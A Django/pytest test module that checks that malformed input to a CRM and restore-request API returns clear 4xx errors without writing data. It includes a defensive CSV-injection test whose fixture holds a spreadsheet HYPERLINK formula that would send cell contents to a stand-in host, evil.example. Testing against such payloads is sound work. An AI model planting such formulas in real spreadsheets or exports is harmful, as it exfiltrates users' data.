"""Bad input, one table of cases: each is a clear 4xx, with `{"code", "detail"}` on
the API or a message on the page, and writes nothing (the row count of every
table of ours is the same before and after).
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field

import pytest
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test.utils import override_settings
from django.utils import timezone
from rest_framework.test import APIClient

from crm.csv_format import record_to_row
from crm.models import Contact
from crm.records import to_record
from crm.registry import entity
from restore_requests import services as request_services
from tests.factories import make

OUR_APPS = ("accounts", "crm", "crm_history", "backups", "restore_requests", "alerts", "authtoken")
MB = 1024 * 1024
BIG = 10**30  # past any id (bigint ends at 2**63 - 1)


def row_counts() -> dict[str, int]:
    """Rows of every table of ours (log-in attempts and sessions aside)."""
    return {
        model._meta.label: model.objects.count()
        for name in OUR_APPS
        for model in apps.get_app_config(name).get_models()
    }


def upload(data: bytes, name: str = "contacts.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type="text/csv")


@dataclass(frozen=True)
class Case:
    id: str
    method: str
    url: str
    status: int
    code: str = ""  # the API's error code
    message: str = ""  # what the page says (pages)
    json: object = None  # a JSON body (API)
    raw: bytes | str | None = None  # a body sent as is
    content_type: str = "application/json"
    form: dict | None = None  # a form or multipart body
    caller: str = "admin"  # admin (alice), helpdesk (helen)
    auth: str | None = None  # an Authorization header instead of the caller's token
    settings: dict = field(default_factory=dict)
    page: bool = False  # a page with alice's session, not the API

    def __str__(self):
        return self.id


CASES = [
    # --- The CSV import: size, damage, encodings ---------------------------------------
    Case("import file over IMPORT_MAX_BYTES", "post", "/api/v1/crm/import/", 413,
         "payload_too_large", form={"file": upload(b"NAME;LAST_NAME\r\n" + b"a;b\r\n" * 1000)},
         settings={"IMPORT_MAX_BYTES": 1000}),
    Case("import body over the upload limit, refused before it is read", "post",
         "/api/v1/crm/import/", 413, "payload_too_large",
         form={"file": upload(b"a;b\r\n" * 30_000)}, settings={"IMPORT_MAX_BYTES": 1000}),
    Case("import page, file over the limit: the error beside the field", "post", "/crm/import/",
         413, message="the import takes files up to 1 kB",
         form={"file": upload(b"NAME;LAST_NAME\r\n" + b"a;b\r\n" * 1000)},
         settings={"IMPORT_MAX_BYTES": 1000}, page=True),
    Case("import of a damaged zip", "post", "/api/v1/crm/import/", 400, "invalid",
         form={"file": upload(b"PK\x03\x04 not a zip", "contacts.zip")}),
    Case("import in Latin-1", "post", "/api/v1/crm/import/", 400, "invalid",
         form={"file": upload("NAME;LAST_NAME\r\nJosé;Núñez\r\n".encode("latin-1"))}),
    Case("import in UTF-16", "post", "/api/v1/crm/import/", 400, "invalid",
         form={"file": upload("NAME;LAST_NAME\r\nJosé;Núñez\r\n".encode("utf-16"))}),
    Case("import page in Latin-1: the error beside the field", "post", "/crm/import/", 400,
         message="is not UTF-8 text",
         form={"file": upload("NAME;LAST_NAME\r\nJosé;x\r\n".encode("latin-1"))}, page=True),
    Case("import without the file", "post", "/api/v1/crm/import/", 400, "invalid", form={}),
    Case("import, unclosed quote", "post", "/api/v1/crm/import/", 400, "invalid",
         form={"file": upload(b'NAME;LAST_NAME\r\n"unclosed;x\r\nMario;Rossi\r\n')}),
    Case("import, no known column", "post", "/api/v1/crm/import/", 400, "invalid",
         form={"file": upload(b"FOO;BAR\r\n1;2\r\n")}),
    Case("import of an unknown entity type", "post", "/api/v1/crm/import/", 400, "invalid",
         form={"file": upload(b"NAME\r\nx\r\n", "stuff.csv"), "entity_type": "invoices"}),
    # --- Page sizes and page numbers -----------------------------------------------------
    Case("CRM list, page size of a million", "get", "/api/v1/crm/contacts/?page_size=1000000",
         400, "invalid"),
    Case("CRM list, negative page size", "get", "/api/v1/crm/contacts/?page_size=-1", 400,
         "invalid"),
    Case("CRM list, page zero", "get", "/api/v1/crm/contacts/?page=0", 400, "invalid"),
    Case("History, page size of a million", "get",
         "/api/v1/history/events/?page_size=1000000", 400, "invalid"),
    Case("History, non-numeric page size", "get", "/api/v1/history/events/?page_size=lots",
         400, "invalid"),
    Case("recycle bin, page size of a million", "get", "/api/v1/recycle-bin/?page_size=1000000",
         400, "invalid"),
    Case("restore requests, page size of a million", "get",
         "/api/v1/restore-requests/?page_size=1000000", 400, "invalid"),
    Case("History, a made-up cursor", "get", "/api/v1/history/events/?cursor=garbage", 400,
         "invalid"),
    # --- Ids in URLs ------------------------------------------------------------------
    Case("record id negative", "get", "/api/v1/crm/contacts/-1/", 404, "not_found"),
    Case("record id past bigint", "get", f"/api/v1/crm/contacts/{BIG}/", 404, "not_found"),
    Case("record id not a number", "get", "/api/v1/crm/contacts/abc/", 404, "not_found"),
    Case("record id negative, on delete", "delete", "/api/v1/crm/contacts/-1/", 404,
         "not_found"),
    Case("request id negative", "get", "/api/v1/restore-requests/-3/", 404, "not_found"),
    Case("request id past bigint", "get", f"/api/v1/restore-requests/{BIG}/", 404, "not_found"),
    Case("request id not a number", "post", "/api/v1/restore-requests/abc/cancel/", 404,
         "not_found"),
    Case("alert id past bigint", "post", f"/api/v1/alerts/{BIG}/dismiss/", 404, "not_found"),
    Case("snapshot id past bigint", "get", f"/api/v1/backups/snapshots/{BIG}/", 404,
         "not_found"),
    Case("page: record id past bigint", "get", f"/crm/contacts/{BIG}/", 404,
         message="There is nothing here", page=True),
    Case("page: request id not a number", "get", "/restore/abc/", 404,
         message="There is nothing here", page=True),
    Case("an unknown API address", "get", "/api/v1/no-such-thing/", 404, "not_found"),
    # --- Ids in bodies ----------------------------------------------------------------
    Case("bulk delete, negative id", "post", "/api/v1/crm/contacts/bulk-delete/", 400,
         "invalid", json={"ids": [-1]}),
    Case("bulk delete, id past bigint", "post", "/api/v1/crm/contacts/bulk-delete/", 400,
         "invalid", json={"ids": [BIG]}),
    Case("bulk delete, non-numeric id", "post", "/api/v1/crm/contacts/bulk-delete/", 400,
         "invalid", json={"ids": ["abc"]}),
    Case("bulk delete, ids not a list", "post", "/api/v1/crm/contacts/bulk-delete/", 400,
         "invalid", json={"ids": "1,2"}),
    Case("bulk delete, true as an id", "post", "/api/v1/crm/contacts/bulk-delete/", 400,
         "invalid", json={"ids": [True]}),
    Case("page: bulk delete of a non-numeric id", "post", "/crm/contacts/bulk-delete/", 302,
         message="ids must be whole numbers", form={"ids": ["abc"]}, page=True),
    Case("link to a company id past bigint", "post", "/api/v1/crm/contacts/", 400, "invalid",
         json={"name": "Mario", "company_id": BIG}),
    Case("link to a negative company id", "post", "/api/v1/crm/contacts/", 400, "invalid",
         json={"name": "Mario", "company_id": -4}),
    Case("recycle bin restore, negative event", "post", "/api/v1/recycle-bin/restore/", 400,
         "invalid", json={"events": [-5]}),
    Case("recycle bin restore, event past bigint", "post", "/api/v1/recycle-bin/restore/", 400,
         "invalid", json={"events": [BIG]}),
    Case("confirm, snapshot past bigint", "post", "/api/v1/restore-requests/@request/confirm/",
         400, "invalid", json={"snapshot": BIG, "option": "csv_export"}),
    Case("propose, negative snapshot", "post",
         "/api/v1/helpdesk/restore-requests/@request/propose/", 400, "invalid",
         json={"snapshots": [-1]}, caller="helpdesk"),
    Case("preview, snapshot not a number", "get",
         "/api/v1/restore-requests/@request/preview/?snapshot=abc", 400, "invalid"),
    Case("preview, snapshot a digit that is not a number (²)", "get",
         "/api/v1/restore-requests/@request/preview/?snapshot=%C2%B2", 400, "invalid"),
    # --- Dates ------------------------------------------------------------------------
    Case("request, impossible date", "post", "/api/v1/restore-requests/", 400, "invalid",
         json={"deleted_at": "2026-13-45T99:00", "option": "csv_export"}),
    Case("request, five-digit year", "post", "/api/v1/restore-requests/", 400, "invalid",
         json={"deleted_at": "99999-01-01T00:00", "option": "csv_export"}),
    Case("request, a date in words", "post", "/api/v1/restore-requests/", 400, "invalid",
         json={"deleted_at": "last tuesday", "option": "csv_export"}),
    Case("request, more than seven days ago", "post", "/api/v1/restore-requests/", 400,
         "outside_restore_window", json={"deleted_at": "2020-01-01T00:00",
                                         "option": "csv_export"}),
    Case("request, in the future", "post", "/api/v1/restore-requests/", 400,
         "outside_restore_window", json={"deleted_at": "2999-01-01T00:00+00:00",
                                         "option": "csv_export"}),
    Case("report, a date in words", "post", "/api/v1/deletion-reports/", 400, "invalid",
         json={"deleted_at": "yesterday", "person": "x", "description": "y"}),
    Case("History, not a date", "get", "/api/v1/history/events/?occurred_after=not-a-date",
         400, "invalid"),
    Case("History, year zero", "get", "/api/v1/history/events/?occurred_after=0000-01-01",
         400, "invalid"),
    Case("recycle bin, day first", "get", "/api/v1/recycle-bin/?deleted_after=31/12/2026",
         400, "invalid"),
    Case("CRM list, impossible date", "get", "/api/v1/crm/contacts/?created_after=2026-99-99",
         400, "invalid"),
    Case("page: request form, not a date", "post", "/restore/new/", 400,
         message="Enter a valid date/time",
         form={"deleted_at": "garbage", "option": "csv_export"}, page=True),
    Case("page: History, not a date", "get", "/history/?occurred_after=garbage", 400,
         message="Enter a date (YYYY-MM-DD)", page=True),
    # --- Unknown options and filter values ---------------------------------------------
    Case("request, unknown option", "post", "/api/v1/restore-requests/", 400, "invalid",
         json={"deleted_at": "@recent", "option": "everything"}),
    Case("preview, unknown option", "get",
         "/api/v1/restore-requests/@request/preview/?snapshot=1&option=bogus", 400, "invalid"),
    Case("History, unknown action", "get", "/api/v1/history/events/?action=explode", 400,
         "invalid"),
    Case("History, unknown entity type", "get", "/api/v1/history/events/?entity_type=invoice",
         400, "invalid"),
    Case("alerts, unknown state", "get", "/api/v1/alerts/?state=bogus", 400, "invalid"),
    Case("helpdesk queue, unknown status", "get",
         "/api/v1/helpdesk/restore-requests/?status=bogus", 400, "invalid", caller="helpdesk"),
    Case("plan, unknown plan", "post", "/api/v1/account/plan/", 400, "invalid",
         json={"plan": "platinum"}),
    Case("CRM list, non-numeric company filter", "get", "/api/v1/crm/contacts/?company=abc",
         400, "invalid"),
    Case("alert rules, negative count", "put", "/api/v1/alerts/rules/", 400, "invalid",
         json={"burst_count": -1}),
    # --- Tokens -----------------------------------------------------------------------
    Case("no credentials", "get", "/api/v1/me/", 401, "not_authenticated", auth=""),
    Case("unknown token", "get", "/api/v1/me/", 401, "authentication_failed",
         auth="Token 0123456789abcdef0123456789abcdef01234567"),
    Case("token keyword without a token", "get", "/api/v1/me/", 401, "authentication_failed",
         auth="Token"),
    Case("token with spaces", "get", "/api/v1/me/", 401, "authentication_failed",
         auth="Token a b"),
    Case("another scheme", "get", "/api/v1/me/", 401, "not_authenticated", auth="Bearer abc"),
    Case("unknown token on a write", "post", "/api/v1/crm/contacts/", 401,
         "authentication_failed", json={"name": "x"}, auth="Token nonsense"),
    # --- Bodies -----------------------------------------------------------------------
    Case("JSON body of six megabytes", "post", "/api/v1/crm/contacts/", 413,
         "payload_too_large", json={"name": "x" * (6 * MB)}),
    Case("JSON body of six megabytes, on a write that takes ids", "post",
         "/api/v1/crm/contacts/bulk-delete/", 413, "payload_too_large",
         json={"ids": list(range(1, 1_000_000))}),
    Case("malformed JSON", "post", "/api/v1/crm/contacts/", 400, "invalid", raw="{not json"),
    Case("a JSON list for an object", "post", "/api/v1/crm/contacts/", 400, "invalid",
         json=["a list"]),
    Case("a body that is not JSON", "post", "/api/v1/crm/contacts/", 415,
         "unsupported_media_type", raw="name=x", content_type="text/plain"),
    Case("a field far over its length", "post", "/api/v1/crm/contacts/", 400, "invalid",
         json={"name": "x" * 10_000}),
    Case("page: a form of six megabytes", "post", "/crm/contacts/new/", 413,
         message="the limit is 5.0 MB", form={"name": "x" * (6 * MB)}, page=True),
    Case("page: an upload whose fields are over six megabytes", "post", "/crm/import/", 413,
         message="the limit is 5.0 MB besides the files",
         form={"file": upload(b"NAME\r\nx\r\n"), "entity_type": "x" * (6 * MB)}, page=True),
    Case("API: an upload whose fields are over six megabytes", "post", "/api/v1/crm/import/",
         413, "payload_too_large",
         form={"file": upload(b"NAME\r\nx\r\n"), "entity_type": "x" * (6 * MB)}),
]  # fmt: skip


def _client(case: Case, world: dict):
    if case.page:
        return world["page"](world["admin"])
    client = APIClient()
    if case.auth is not None:
        if case.auth:
            client.credentials(HTTP_AUTHORIZATION=case.auth)
        return client
    return world["clients"][case.caller]


def _url(case: Case, world: dict) -> str:
    return case.url.replace("@request", str(world["request"].pk))


def send(case: Case, world: dict, client):
    url = _url(case, world)
    call = getattr(client, case.method)
    if case.json is not None:
        body = case.json
        if isinstance(body, dict) and body.get("deleted_at") == "@recent":
            body = {**body, "deleted_at": timezone.now().isoformat()}
        return call(url, json.dumps(body), content_type="application/json")
    if case.raw is not None:
        return call(url, case.raw, content_type=case.content_type)
    if case.form is not None:
        for value in case.form.values():
            if hasattr(value, "seek"):
                value.seek(0)
        return call(url, case.form) if case.page else call(url, case.form, format="multipart")
    return call(url)


@pytest.fixture
def world(acme, alice, helen, api, page):
    make(acme, "contact", name="Mario", last_name="Rossi")
    request = request_services.request_file(
        account=acme, actor=alice, deleted_at=timezone.now(), option="csv_export"
    )
    # Clients first: taking a token writes a row, which the cases must not count.
    clients = {"admin": api(alice), "helpdesk": api(helen)}
    return {"admin": alice, "page": page, "clients": clients, "request": request}


@pytest.mark.parametrize("case", CASES, ids=str)
def test_bad_input_is_a_clear_4xx_and_writes_nothing(case: Case, world):
    before = row_counts()
    client = _client(case, world)
    with override_settings(**case.settings):
        response = send(case, world, client)
    assert response.status_code == case.status, response.content[:500]
    text = response.content.decode("utf-8", errors="replace")
    if case.page:
        if response.status_code == 302:  # a page that says it on the page it goes back to
            text = client.get(response["Location"]).content.decode()
        assert case.message in text, text[:2000]
    else:
        body = response.json()
        assert body["code"] == case.code, body
        assert isinstance(body["detail"], str) and body["detail"].strip()
    assert row_counts() == before


def test_the_table_names_every_kind_of_bad_input():
    """The kinds the issue lists, each present at least once."""
    ids = " | ".join(c.id for c in CASES)
    for kind in ("over IMPORT_MAX_BYTES", "damaged zip", "Latin-1", "UTF-16", "page size",
                 "negative", "past bigint", "not a number", "impossible date", "unknown option",
                 "unknown token", "six megabytes", "malformed JSON"):  # fmt: skip
        assert kind in ids, kind


@pytest.mark.django_db
def test_formula_cells_are_imported_as_text_and_exported_so_no_spreadsheet_runs_them(
    acme, alice, api
):
    """OWASP's CSV injection advice (domain.md): a cell starting with = + - @ stays the
    text it was, and the export writes it so that a spreadsheet shows it as text."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    data = f"NAME;LAST_NAME;POST\r\n{formula};@SUM(1+1);+1-2\r\n".encode()
    response = api(alice).post("/api/v1/crm/import/", {"file": upload(data)}, format="multipart")
    assert response.status_code == 200, response.content
    contact = Contact.objects.get(account=acme)
    assert (contact.name, contact.last_name, contact.post) == (formula, "@SUM(1+1)", "+1-2")
    cells = record_to_row(entity("contact"), to_record(entity("contact"), contact), [])
    assert f"'{formula}" in cells and "'@SUM(1+1)" in cells and "'+1-2" in cells


@pytest.mark.django_db
def test_import_rows_with_an_id_of_zero_or_below_are_refused(acme, alice, api):
    data = b"ID;NAME;LAST_NAME\r\n-5;Negative;Id\r\n0;Zero;Id\r\n"
    response = api(alice).post("/api/v1/crm/import/", {"file": upload(data)}, format="multipart")
    assert response.status_code == 200, response.content
    rows = response.json()["files"][0]["rows"]
    assert [(r["outcome"], r["original_id"]) for r in rows] == [("refused", -5), ("refused", 0)]
    assert all("is not a valid id" in r["reason"] for r in rows), rows
    assert not Contact.objects.filter(account=acme).exists()
    assert api(alice).get("/api/v1/history/events/").status_code == 200


@pytest.mark.django_db
def test_import_rows_whose_id_is_a_digit_but_not_a_number_are_refused(acme, alice, api):
    """ "²" is a digit to str.isdigit() but not to int(): the row is refused with the
    reason, never a 500 for the whole file."""
    data = "ID;NAME;LAST_NAME\r\n²;Super;Script\r\n7;Mario;Rossi\r\n".encode()
    response = api(alice).post("/api/v1/crm/import/", {"file": upload(data)}, format="multipart")
    assert response.status_code == 200, response.content
    rows = response.json()["files"][0]["rows"]
    assert [r["outcome"] for r in rows] == ["refused", "created"]
    assert "²" in rows[0]["reason"]
    assert list(Contact.objects.filter(account=acme).values_list("name", flat=True)) == ["Mario"]
